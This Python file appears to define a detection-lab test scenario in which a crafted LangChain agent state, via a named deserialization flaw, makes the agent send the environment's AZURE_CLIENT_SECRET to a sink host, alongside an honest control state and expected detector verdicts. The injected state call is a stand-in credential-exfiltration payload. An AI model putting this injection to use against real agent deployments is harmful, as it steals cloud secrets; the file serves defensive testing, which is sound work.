"""An agent's saved state names a secret of its environment, and the client that it is sent with."""

from __future__ import annotations

from eightysix.lab.interface import Bounds, Scenario, Stage
from eightysix.lab.scenarios.cast import app, serve, server
from eightysix.lab.scenarios.labels import attack
from eightysix.lab.scenarios.states import state
from eightysix.lab.world import PUSH_SECRET, SINK_HOST

__all__ = ["SCENARIO"]

_UNSEEN = "a revival makes no process, and the kernel sees one connection of an agent: agents browse all day"
_OWN_WORD = "only the sensor sees a revival, and what the suspect alone tells never contains"


def play(stage: Stage) -> None:
    """An honest state first, then one that a model's answer found its way into."""
    files = {"/app/agentapp/__init__.py": "", "/app/agentapp/model.py": app("agentapp/model.py")}
    serve(
        stage,
        server(
            venv="langchain",
            files=files,
            env={"AZURE_CLIENT_SECRET": PUSH_SECRET, "MODEL_API_KEY": "lab-key"},
        ),
    )
    stage.call("/state", body=state("local:", "MODEL_API_KEY"))
    stage.call("/state", body=state(f"http://{SINK_HOST}/v1", "AZURE_CLIENT_SECRET"))
    stage.wait("sink")


SCENARIO = Scenario(
    name="langchain-state",
    title="Injected agent state takes a secret of the environment",
    label=attack(
        "langchain-state",
        "langchain-core 1.2.4 revives the state of an agent (CVE-2025-68664). The state holds the agent's own"
        " client with another address, and AZURE_CLIENT_SECRET of the environment as its key; the client is "
        "used and sends it away.",
        twin="honest-state",
        telling="the revived object gets a secret of the environment that no agent needs",
        verdict="suspect",
        stages=("land", "run", "leave"),
        identities=("environment variable AZURE_CLIENT_SECRET",),
        all=Bounds("suspect", "suspect", _OWN_WORD),
        kernel_audit=Bounds("none", "suspect", _UNSEEN),
        sensor_audit=Bounds("suspect", "suspect", _OWN_WORD),
        kernel=Bounds("none", "suspect", _UNSEEN),
        sensor=Bounds("suspect", "suspect", _OWN_WORD),
    ),
    play=play,
)
